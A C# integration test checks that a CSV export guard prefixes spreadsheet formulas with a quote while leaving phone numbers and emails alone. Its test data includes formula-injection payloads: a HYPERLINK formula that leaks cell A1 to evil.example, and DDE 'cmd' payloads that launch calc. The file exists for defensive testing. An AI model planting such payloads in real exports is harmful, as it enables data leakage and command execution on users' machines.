using Intent.Pipeline.Exports;
using Npgsql;

namespace Intent.Tests.Integration.Exports;

/// <summary>The neutralizing SQL of <see cref="CsvFormulaGuard"/>, evaluated by PostgreSQL.</summary>
[Collection(IntegrationGroup.Name)]
public sealed class CsvFormulaGuardTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

    [Theory]
    [InlineData("first_name", Hyperlink, "'" + Hyperlink)]
    [InlineData("first_name", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("headline", "-2+3", "'-2+3")]
    [InlineData("job_title", "@SUM(1,2)", "'@SUM(1,2)")]
    [InlineData("company_name", "\t=1", "'\t=1")]
    [InlineData("company_industry", "\r=1", "'\r=1")]
    [InlineData("last_name", "O'Neil-Smith", "O'Neil-Smith")]
    [InlineData("full_name", "'=already quoted", "'=already quoted")]
    [InlineData("country", "Germany", "Germany")]
    [InlineData("phone", "+1 555", "+1 555")]
    [InlineData("phone", "+1 (555) 010-2000", "+1 (555) 010-2000")]
    [InlineData("phone", "+44.20.7946.0958", "+44.20.7946.0958")]
    [InlineData("phone", "=1+2", "'=1+2")]
    [InlineData("phone", "+HYPERLINK(\"x\")", "'+HYPERLINK(\"x\")")]
    [InlineData("phone", "-1", "'-1")]
    [InlineData("business_email", "+sales@example.com", "+sales@example.com")]
    [InlineData("email", "-ops@example.com", "-ops@example.com")]
    [InlineData("personal_email", "ann@example.com", "ann@example.com")]
    [InlineData("primary_contact_email", "=cmd|' /C calc'!A0@x.com", "'=cmd|' /C calc'!A0@x.com")]
    [InlineData("email", "@example.com", "'@example.com")]
    [InlineData("linkedin_url", "https://www.linkedin.com/in/ann", "https://www.linkedin.com/in/ann")]
    [InlineData("linkedin_url", Hyperlink, "'" + Hyperlink)]
    [InlineData("hashed_email", "5f4dcc3b5aa765d61d8327deb882cf99", "5f4dcc3b5aa765d61d8327deb882cf99")]
    public async Task PostgreSQL_neutralizes_what_a_spreadsheet_would_evaluate_and_nothing_else(string column, string value, string expected)
    {
        Assert.Equal(expected, await EvaluateAsync(column, value));
    }

    [Fact]
    public async Task A_missing_value_stays_missing() => Assert.Null(await EvaluateAsync("first_name", null));

    private static async Task<string?> EvaluateAsync(string column, string? value)
    {
        await using var connection = new NpgsqlConnection(TestSettings.ConnectionString);
        await connection.OpenAsync();
        await using var command = new NpgsqlCommand($"SELECT {CsvFormulaGuard.Neutralized(column, "t.v")} FROM (VALUES (@value::text)) AS t(v)", connection);
        command.Parameters.AddWithValue("value", (object?)value ?? DBNull.Value);
        return await command.ExecuteScalarAsync() as string;
    }
}
